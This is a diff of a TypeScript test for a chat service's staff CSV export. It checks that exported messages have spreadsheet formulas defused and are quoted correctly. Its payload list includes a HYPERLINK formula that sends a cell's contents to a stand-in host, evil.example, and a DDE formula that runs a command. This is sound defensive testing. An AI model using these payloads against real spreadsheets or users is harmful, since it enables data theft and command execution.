@@ -4,8 +4,7 @@
  * words cannot start a new cell or row), and the download's name and type are fixed by the server.
  */
 import { ChatClient } from '../helpers/chat-client';
-import { startTestServer, type TestServer } from '../helpers/test-server';
-import { addStaff, ConsoleClient } from '../staff/staff-fixture';
+import { useConsole } from './use-console';
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
 
@@ -38,25 +37,19 @@ function parseCsv(text: string): string[][] {
 }
 
 describe('CSV export', () => {
-  let server: TestServer;
-  let admin: ConsoleClient;
-  beforeAll(async () => {
-    server = await startTestServer();
-    admin = await ConsoleClient.login(server.url, await addStaff(server, 'admin'));
-  });
-  afterAll(async () => server.close());
+  const t = useConsole('admin');
 
   it('should defuse formulas, keep each message in its own quoted cell, and fix the file name (zh, en)', async () => {
     const marker = `csvmark${Date.now()}`;
     const texts = [...FORMULAS, `${marker} 你好, "朋友"\r\nnext,row`, `${marker} hello "friend", bye`];
-    const shopper = await ChatClient.connect(server.url, { locale: 'zh' });
+    const shopper = await ChatClient.connect(t.server.url, { locale: 'zh' });
     try {
       for (const text of texts) await shopper.say(text);
       await shopper.say(marker);
     } finally {
       shopper.close();
     }
-    const res = await admin.download(`/api/staff/export?format=csv&text=${marker}`);
+    const res = await t.console.download(`/api/staff/export?format=csv&text=${marker}`);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="kefu-transcripts-\d{4}-\d{2}-\d{2}\.csv"$/);
